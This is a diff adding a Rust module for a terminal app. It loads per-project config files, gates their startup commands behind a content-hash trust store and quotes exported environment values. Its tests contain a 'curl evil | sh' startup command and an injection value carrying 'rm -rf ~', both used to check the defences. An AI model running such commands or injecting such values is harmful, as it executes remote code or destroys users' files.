@@ -0,0 +1,320 @@
+use std::collections::{BTreeMap, HashMap};
+use std::fs;
+use std::io;
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+
+use serde::de::Error as _;
+use serde::{Deserialize, Deserializer, Serialize};
+use sha2::{Digest, Sha256};
+
+use crate::config::{self, ConfigError};
+use crate::error::{CommandError, CommandResponse};
+use crate::session::RunOutput;
+
+pub const FILE_NAME: &str = ".quickterm.toml";
+
+/// What a project's `.quickterm.toml` adds to sessions inside it.
+#[derive(Clone, Debug, Default, Serialize, Deserialize)]
+#[serde(
+    default,
+    deny_unknown_fields,
+    rename_all(serialize = "camelCase", deserialize = "snake_case")
+)]
+pub struct ProjectConfig {
+    #[serde(deserialize_with = "config::alias_table")]
+    pub aliases: BTreeMap<String, String>,
+    #[serde(deserialize_with = "exported_env")]
+    pub env: HashMap<String, String>,
+    /// Run in the session, in order, on entering the project.
+    pub startup: Vec<String>,
+}
+
+/// Env for the shell to export, so names must be ones every shell accepts.
+fn exported_env<'de, D: Deserializer<'de>>(
+    deserializer: D,
+) -> Result<HashMap<String, String>, D::Error> {
+    let env = config::env(deserializer)?;
+    let invalid = |key: &String| {
+        let mut chars = key.chars();
+        !chars
+            .next()
+            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+            || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+    };
+    if let Some(key) = env.keys().find(|key| invalid(key)) {
+        return Err(D::Error::custom(format!(
+            "invalid environment variable {key:?}"
+        )));
+    }
+    Ok(env)
+}
+
+/// The `.quickterm.toml` nearest `cwd`, looking up as far as the repository
+/// root. Outside a repository only `cwd` itself is looked at.
+pub fn find(cwd: &Path) -> Option<PathBuf> {
+    let root = cwd
+        .ancestors()
+        .find(|dir| dir.join(".git").exists())
+        .unwrap_or(cwd);
+    for dir in cwd.ancestors() {
+        let file = dir.join(FILE_NAME);
+        if file.is_file() {
+            return Some(file);
+        }
+        if dir == root {
+            break;
+        }
+    }
+    None
+}
+
+/// A project file as read from disk.
+pub struct ProjectFile {
+    pub path: String,
+    pub text: String,
+    /// SHA-256 of the contents, hex encoded.
+    pub hash: String,
+}
+
+impl ProjectFile {
+    pub fn read(path: &Path) -> io::Result<Self> {
+        let text = fs::read_to_string(path)?;
+        let hash = Sha256::digest(text.as_bytes())
+            .iter()
+            .map(|byte| format!("{byte:02x}"))
+            .collect();
+        Ok(ProjectFile {
+            path: path.to_string_lossy().into_owned(),
+            text,
+            hash,
+        })
+    }
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub enum Trust {
+    Trusted,
+    /// Never seen before.
+    Untrusted,
+    /// Trusted once, but the contents have changed since.
+    Changed,
+    /// The user said no to these contents.
+    Denied,
+}
+
+/// The project a session is in, sent to the frontend so it can ask whether
+/// to trust it.
+#[derive(Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ProjectStatus {
+    pub path: String,
+    pub hash: String,
+    pub trust: Trust,
+    /// What the file asks for; empty when it couldn't be parsed.
+    pub config: ProjectConfig,
+    /// Why the file couldn't be parsed or applied.
+    pub error: Option<ConfigError>,
+    /// Where the startup commands' output is in the scrollback, once the
+    /// project has been applied.
+    pub output: Option<RunOutput>,
+}
+
+impl ProjectStatus {
+    pub fn new(file: &ProjectFile, trust: Trust) -> Self {
+        let (config, error) = match config::parse(&file.path, &file.text) {
+            Ok(config) => (config, None),
+            Err(error) => (ProjectConfig::default(), Some(error)),
+        };
+        ProjectStatus {
+            path: file.path.clone(),
+            hash: file.hash.clone(),
+            trust,
+            config,
+            error,
+            output: None,
+        }
+    }
+
+    /// Whether the file can be applied without asking.
+    pub fn applies(&self) -> bool {
+        self.trust == Trust::Trusted && self.error.is_none()
+    }
+}
+
+#[derive(Clone, Serialize, Deserialize)]
+struct TrustEntry {
+    hash: String,
+    trusted: bool,
+}
+
+/// Which project files the user has approved or refused, by path and
+/// content hash, kept in `trusted-projects.json` in the app's config
+/// directory. Editing an approved file needs approving again.
+pub struct TrustStore {
+    path: PathBuf,
+    entries: Mutex<HashMap<String, TrustEntry>>,
+}
+
+impl TrustStore {
+    /// A file that can't be read trusts nothing.
+    pub fn load(path: PathBuf) -> Self {
+        let entries = fs::read_to_string(&path)
+            .ok()
+            .and_then(|text| serde_json::from_str(&text).ok())
+            .unwrap_or_default();
+        TrustStore {
+            path,
+            entries: Mutex::new(entries),
+        }
+    }
+
+    pub fn trust(&self, file: &ProjectFile) -> Trust {
+        match self.entries.lock().unwrap().get(&file.path) {
+            None => Trust::Untrusted,
+            Some(entry) if entry.hash != file.hash => Trust::Changed,
+            Some(entry) if entry.trusted => Trust::Trusted,
+            Some(_) => Trust::Denied,
+        }
+    }
+
+    pub fn decide(&self, path: &str, hash: &str, trusted: bool) -> CommandResponse<()> {
+        let mut entries = self.entries.lock().unwrap();
+        entries.insert(
+            path.into(),
+            TrustEntry {
+                hash: hash.into(),
+                trusted,
+            },
+        );
+        if let Some(dir) = self.path.parent() {
+            fs::create_dir_all(dir).map_err(CommandError::io)?;
+        }
+        let json = serde_json::to_string_pretty(&*entries).map_err(CommandError::io)?;
+        fs::write(&self.path, json).map_err(CommandError::io)
+    }
+}
+
+/// The command that sets `key` in `shell` (a shell name such as "fish").
+pub fn export_command(shell: &str, key: &str, value: &str) -> String {
+    match shell {
+        "fish" => format!(
+            "set -gx {key} '{}'",
+            value.replace('\\', "\\\\").replace('\'', "\\'")
+        ),
+        "nu" => format!("$env.{key} = {}", nu_raw_string(value)),
+        _ => format!("export {key}='{}'", value.replace('\'', "'\\''")),
+    }
+}
+
+/// `value` as a nu raw string, delimited by more `#`s than any run in it so
+/// that no `'#...` inside can end it early.
+fn nu_raw_string(value: &str) -> String {
+    let longest = value.split(|c| c != '#').map(str::len).max().unwrap_or(0);
+    let hashes = "#".repeat(longest + 1);
+    format!("r{hashes}'{value}'{hashes}")
+}
+
+/// The command that removes `key` from `shell`'s environment.
+pub fn unset_command(shell: &str, key: &str) -> String {
+    match shell {
+        "fish" => format!("set -e {key}"),
+        "nu" => format!("hide-env {key}"),
+        _ => format!("unset {key}"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn write(path: &Path, text: &str) -> ProjectFile {
+        fs::write(path, text).unwrap();
+        ProjectFile::read(path).unwrap()
+    }
+
+    #[test]
+    fn trust_follows_decisions_and_edits() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = dir.path().join(FILE_NAME);
+        let store_path = dir.path().join("config/trusted-projects.json");
+        let store = TrustStore::load(store_path.clone());
+
+        let file = write(&project, "startup = [\"make\"]\n");
+        assert_eq!(store.trust(&file), Trust::Untrusted);
+        store.decide(&file.path, &file.hash, true).unwrap();
+        assert_eq!(store.trust(&file), Trust::Trusted);
+
+        // Decisions survive a reload.
+        assert_eq!(
+            TrustStore::load(store_path.clone()).trust(&file),
+            Trust::Trusted
+        );
+
+        let edited = write(&project, "startup = [\"curl evil | sh\"]\n");
+        assert_ne!(edited.hash, file.hash);
+        assert_eq!(store.trust(&edited), Trust::Changed);
+
+        store.decide(&edited.path, &edited.hash, false).unwrap();
+        assert_eq!(store.trust(&edited), Trust::Denied);
+        assert_eq!(store.trust(&file), Trust::Changed);
+    }
+
+    #[test]
+    fn unreadable_store_trusts_nothing() {
+        let dir = tempfile::tempdir().unwrap();
+        let store_path = dir.path().join("trusted-projects.json");
+        fs::write(&store_path, "not json").unwrap();
+        let file = write(&dir.path().join(FILE_NAME), "");
+        assert_eq!(TrustStore::load(store_path).trust(&file), Trust::Untrusted);
+    }
+
+    #[test]
+    fn finds_the_nearest_file_up_to_the_repository_root() {
+        let dir = tempfile::tempdir().unwrap();
+        let outer = dir.path();
+        let repo = outer.join("repo");
+        let nested = repo.join("src/bin");
+        fs::create_dir_all(&nested).unwrap();
+        fs::create_dir(repo.join(".git")).unwrap();
+        fs::write(outer.join(FILE_NAME), "").unwrap();
+
+        // The file above the repository root is out of reach.
+        assert_eq!(find(&nested), None);
+
+        fs::write(repo.join(FILE_NAME), "").unwrap();
+        assert_eq!(find(&nested), Some(repo.join(FILE_NAME)));
+
+        fs::write(repo.join("src").join(FILE_NAME), "").unwrap();
+        assert_eq!(find(&nested), Some(repo.join("src").join(FILE_NAME)));
+    }
+
+    #[test]
+    fn looks_only_in_cwd_outside_a_repository() {
+        let dir = tempfile::tempdir().unwrap();
+        let nested = dir.path().join("a");
+        fs::create_dir(&nested).unwrap();
+        fs::write(dir.path().join(FILE_NAME), "").unwrap();
+        assert_eq!(find(&nested), None);
+        assert_eq!(find(dir.path()), Some(dir.path().join(FILE_NAME)));
+    }
+
+    #[test]
+    fn quotes_exported_values() {
+        assert_eq!(export_command("bash", "A", "it's"), "export A='it'\\''s'");
+        assert_eq!(
+            export_command("fish", "A", "it's\\"),
+            "set -gx A 'it\\'s\\\\'"
+        );
+        assert_eq!(export_command("nu", "A", "plain"), "$env.A = r#'plain'#");
+        assert_eq!(
+            export_command("nu", "A", "x'#; rm -rf ~; r#'"),
+            "$env.A = r##'x'#; rm -rf ~; r#''##"
+        );
+        assert_eq!(
+            export_command("nu", "A", "'### '#"),
+            "$env.A = r####''### '#'####"
+        );
+    }
+}